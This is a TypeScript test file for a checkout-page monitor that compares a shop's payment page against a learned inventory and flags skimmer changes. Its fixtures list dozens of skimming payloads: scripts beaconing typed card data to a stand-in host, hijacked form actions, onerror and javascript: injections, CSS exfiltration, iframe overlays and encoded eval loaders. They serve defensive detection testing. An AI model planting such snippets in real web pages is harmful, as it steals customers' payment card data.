import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  comparePage,
  type PageChange,
  type PageInventory,
} from '../../../lib/environment/payment-page/compare.ts';
import { inventoryOf } from '../../../lib/environment/payment-page/inventory.ts';
import { observe } from '../../../lib/environment/payment-page/observe.ts';
import { structureOf } from '../../../lib/environment/payment-page/script-structure.ts';
import { everySecond } from '../../support/every-point.ts';
import { program } from '../../support/programs.ts';
import { type Checkout, Shop } from './checkout.ts';

const chrome = program('chromium');

/** What an owner changes on an ordinary day. */
const ordinary: readonly (readonly [what: string, Checkout])[] = [
  ['nothing', {}],
  ['a price', { products: [{ name: 'Candle', price: 1300 }] }],
  [
    'a name and a text',
    { products: [{ name: 'Beeswax candle', price: 1200 }], notice: 'Closed on <b>Monday</b>' },
  ],
  [
    'a new product',
    {
      products: [
        { name: 'Candle', price: 1200 },
        { name: 'Soap', price: 480 },
      ],
    },
  ],
  ['a one-time token', { nonce: 'ffffffffff' }],
  ['a sentence and a picture', { body: '<p>Thank you!</p><img src="/media/thanks.png" alt="">' }],
  ['a link to another shop of the firm', { body: '<a href="https://blog.example.jp/">Blog</a>' }],
  [
    'a field for a greeting',
    { body: '<label for="w">メッセージカード</label><textarea id="w" name="words"></textarea>' },
  ],
  ['a style', { head: '<style>/* https://fonts.example */ p { background: url(/media/a.png) }</style>' }],
  ['more structured data', { head: '<script type="application/ld+json">{"@type":"Store"}</script>' }],
];

/** What skimmers do, by the severity with which the owner has to hear of it. */
const skimmers: readonly (readonly [what: string, PageChange['severity'], Checkout])[] = [
  [
    'adds code to the page',
    'loud',
    { body: '<script>document.forms[0].addEventListener("submit", () => 0)</script>' },
  ],
  ['adds a script of another host', 'loud', { head: '<script src="http://ELSEWHERE/s.js"></script>' }],
  [
    'adds a script of another host that a policy blocks',
    'loud',
    {
      head: '<script src="http://ELSEWHERE/s.js"></script>',
      headers: { 'content-security-policy': "script-src 'self' 'unsafe-inline'" },
    },
  ],
  ['sends the form elsewhere', 'loud', { formAction: 'http://ELSEWHERE/pay' }],
  ['sends the form to another path of the shop', 'loud', { formAction: '/wp-content/uploads/pay.php' }],
  [
    'lets a button send the form elsewhere',
    'loud',
    {
      body: '<form action="/checkout" method="post"><button formaction="http://ELSEWHERE/">Pay</button></form>',
    },
  ],
  ['moves every relative address', 'loud', { head: '<base href="http://ELSEWHERE/">' }],
  [
    'listens to keys in the markup',
    'loud',
    { body: '<input name="q" onkeyup="new Image().src=\'/c?\'+this.value">' },
  ],
  [
    'hides code in a broken picture',
    'loud',
    { body: '<img src="x" onerror="fetch(\'http://ELSEWHERE/\')">' },
  ],
  ['hides code in an address', 'loud', { body: '<a href="javascript:steal()">Pay</a>' }],
  [
    'lays a frame over the fields',
    'loud',
    { body: '<iframe src="http://ELSEWHERE/fields" style="position:absolute"></iframe>' },
  ],
  [
    'lays a frame of its own making over the fields',
    'loud',
    { body: '<iframe srcdoc="<input name=card>"></iframe>' },
  ],
  [
    'lays a frame made of data over the fields',
    'loud',
    { body: '<iframe src="data:text/html,<input name=card>"></iframe>' },
  ],
  [
    'asks for the card in the page itself',
    'loud',
    { body: '<input name="card_number" autocomplete="cc-number">' },
  ],
  [
    'asks for the card beside a field that says nothing',
    'loud',
    { body: '<label for="x9">カード\u200b番号</label><input id="x9" name="x9">' },
  ],
  ['asks for the card around a field', 'loud', { body: '<label>Card number <input name="memo"></label>' }],
  [
    'asks for the card by a name elsewhere',
    'loud',
    { body: '<p id="l">ＣＡＲＤ番号</p><input name="memo" aria-labelledby="l">' },
  ],
  ['shows what a card looks like', 'loud', { body: '<input name="memo" placeholder="4242 4242 4242 4242">' }],
  ['sends the form through something else', 'loud', { formAction: '/checkout?relay=1' }],
  [
    'tells by a style what was typed',
    'loud',
    { head: '<style>input[value^="4"] { background: u\\72l(http:\\2f/ELSEWHERE/4) }</style>' },
  ],
  [
    'tells it by a style of the shop',
    'loud',
    {
      head: '<link rel="stylesheet" media="print" href="/a.css">',
      files: { '/a.css': 'input[value^="4"] { background: image-set("//ELSEWHERE/4" 1x) }' },
    },
  ],
  ['tells somebody who pays', 'loud', { body: '<a href="/" ping="http://ELSEWHERE/">Back</a>' }],
  [
    'turns a link into code after a while',
    'loud',
    {
      body: '<svg><a><animate attributeName="href" values="#;javascript:steal()"/><text>Pay</text></a></svg>',
    },
  ],
  ['leads the customer away by a header', 'loud', { headers: { refresh: '60; url=http://ELSEWHERE/' } }],
  ['drops the policy for content', 'changed', { headers: { 'content-security-policy': undefined } }],
  [
    'weakens the policy for content',
    'changed',
    { headers: { 'content-security-policy': "frame-ancestors *; object-src 'none'" } },
  ],
  ['drops another header', 'changed', { headers: { 'x-content-type-options': undefined } }],
  ['changes a file of the shop', 'changed', { code: '/* patched */' }],
  [
    'loads a script by a script',
    'loud',
    {
      code: 'addEventListener("load", () => { const s = document.createElement("script"); s.src = "http://ELSEWHERE/s.js"; document.head.append(s); });',
    },
  ],
  [
    'loads a script of the shop by a script',
    'loud',
    {
      code: 'addEventListener("load", () => { const s = document.createElement("script"); s.src = "/wp-content/x.js"; document.head.append(s); });',
      files: { '/wp-content/x.js': 'window.more = 1' },
    },
  ],
  [
    'makes code of a text',
    'loud',
    { code: 'addEventListener("load", () => eval("window.skim" + "med = 1"));' },
  ],
  [
    'makes code of an encoded text',
    'loud',
    { code: 'addEventListener("load", () => new Function(atob("d2luZG93Lng9MQ=="))());' },
  ],
  ['runs a script made of data', 'loud', { body: '<script src="data:text/javascript,window.x=1"></script>' }],
  [
    'runs a script made in memory',
    'loud',
    {
      code: 'addEventListener("load", () => { const s = document.createElement("script"); s.src = URL.createObjectURL(new Blob(["window.x=1"])); document.head.append(s); });',
    },
  ],
  [
    'sends what is typed elsewhere',
    'loud',
    { code: 'addEventListener("load", () => navigator.sendBeacon("http://ELSEWHERE/c", "4242"));' },
  ],
  [
    'sends it by a picture',
    'loud',
    { code: 'addEventListener("load", () => { new Image().src = "http://ELSEWHERE/p.gif?c=4242"; });' },
  ],
  [
    'sends it by a socket',
    'loud',
    { code: 'addEventListener("load", () => new WebSocket("ws://ELSEWHERE/"));' },
  ],
  [
    'installs a service worker',
    'loud',
    { code: 'navigator.serviceWorker.register("/sw.js");', files: { '/sw.js': 'self.onfetch = () => {};' } },
  ],
  [
    'starts a worker',
    'loud',
    { code: 'window.w = new Worker("/w.js");', files: { '/w.js': 'setInterval(() => 0, 1000)' } },
  ],
  [
    'turns imports elsewhere',
    'loud',
    { head: '<script type="importmap">{"imports":{"pay":"http://ELSEWHERE/s.js"}}</script>' },
  ],
  [
    'hides a form in a shadow tree',
    'loud',
    {
      body: '<div><template shadowrootmode="open"><form action="http://ELSEWHERE/"></form></template></div>',
    },
  ],
  [
    'changes what code of the page calls',
    'loud',
    { body: '<script>initFields(document.querySelector("input"), 1);</script>' },
  ],
  [
    'leads the customer away',
    'loud',
    { head: '<meta http-equiv="refresh" content="60; url=http://ELSEWHERE/">' },
  ],
  [
    'waits before it acts',
    'loud',
    { code: 'addEventListener("load", () => setTimeout(() => fetch("http://ELSEWHERE/c"), 200));' },
  ],
];

describe.skipIf(chrome.missing)(`the payment page, in Chromium (${chrome.install})`, () => {
  let browser: Browser;
  let shop: Shop;
  let inventory: PageInventory;

  beforeAll(async () => {
    shop = await Shop.open();
    browser = await chromium.launch({
      ...(chrome.path && { executablePath: chrome.path }),
      args: ['--headless', '--no-sandbox', '--disable-gpu'],
    });
    inventory = inventoryOf(await visit({}));
  });
  afterAll(async () => {
    await browser?.close();
    shop?.close();
  });

  async function visit(checkout: Checkout) {
    shop.checkout = checkout;
    return observe(browser, { origin: shop.origin, paths: ['/checkout'], settle: 350 });
  }

  it('is learned with its scripts, forms, frames and headers', () => {
    expect(inventory.scripts.map(({ source }) => source.replace(shop.provider, 'PROVIDER'))).toEqual(
      expect.arrayContaining(['/assets/checkout.js', 'http://PROVIDER/v3/', 'inline', 'generated']),
    );
    expect(inventory.forms).toEqual(['POST /checkout']);
    expect(inventory.frames).toEqual([`http://${shop.provider}/fields`]);
    expect(inventory.hosts).toEqual([`frame ${shop.provider}`, `script ${shop.provider}`]);
    expect(inventory.cardFields).toEqual([]);
    expect(Object.keys(inventory.headers)).toEqual([
      'content-security-policy',
      'referrer-policy',
      'x-content-type-options',
    ]);
  });

  it.each(ordinary)('says nothing when an owner changes %s', async (_, checkout) => {
    expect(comparePage(inventory, await visit(checkout))).toEqual([]);
  });

  it.each(everySecond(skimmers))('tells when a skimmer %s (%s)', async (_, severity, checkout) => {
    const [first] = comparePage(inventory, await visit(checkout));
    expect(first?.severity).toBe(severity);
  });

  it('does not take a page that fails for one that is as it was', async () => {
    await expect(observe(browser, { origin: shop.origin, paths: ['/gone'], settle: 0 })).rejects.toThrow(
      '/gone answered 404',
    );
  });

  it('keeps the reasons that were written when it is learned anew', async () => {
    const reasoned = inventory.scripts.map((each) => ({ ...each, reason: `needed for ${each.source}` }));
    const again = inventoryOf(await visit({ code: '/* a release */' }), reasoned);
    expect(again.scripts.filter(({ reason }) => reason === '')).toEqual([]);
  });
});

describe('the structure of code', () => {
  const same = (a: string, b: string) => structureOf(a).hash === structureOf(b).hash;

  it.each([
    ['var price = 1200;', 'var price = 980;'],
    ['var items = [{ id: 1 }];', 'var items = [{ id: 1 }, { id: 2, name: "Soap" }];'],
    ['window.s = JSON.parse(decodeURIComponent("%7B%22a%22%3A1%7D"));', 'window.s = JSON.parse("{}");'],
    ['show("Sold out")', 'show("In stock")'],
    ['let nonce = `abc`;', 'let nonce = `xyz`;'],
  ])('is the same for %s and %s', (before, after) => {
    expect(same(before, after)).toBe(true);
  });

  it.each([
    ['pay(form)', 'steal(form)'],
    ['pay(form)', 'pay(form), send(form)'],
    ['fetch("/pay")', 'fetch("/wp-content/c.php")'],
    ['image.src = "/a.png"', 'image.src = "/c?" + card'],
    ['image.src = "/a.png"', 'image.src = "/b.png"'],
    ['form["action"] = "/pay"', 'form["action"] = "/skim"'],
    ['eval("a()")', 'eval("b()")'],
    ['var text = "Thanks";', 'var text = "<script>x()</script>";'],
    ['var text = "Thanks";', 'var text = "<img src=x onerror=x()>";'],
    ['addEventListener("load", f)', 'addEventListener("keydown", f)'],
    ['x[0]', 'x["cookie"]'],
    ['import("/a.js")', 'import("/b.js")'],
    ['not code at all (', 'not code at all {'],
  ])('differs for %s and %s', (before, after) => {
    expect(same(before, after)).toBe(false);
  });

  it('names the hosts that texts hold, also those that are spelled for JSON or an address', () => {
    expect(
      structureOf(
        'var a = "https:\\/\\/evil.example.com\\/c", b = "//cdn.example.net/x", c = "%2F%2Fx.example.org%2F"',
      ).names,
    ).toEqual(['cdn.example.net', 'evil.example.com', 'x.example.org']);
  });
});
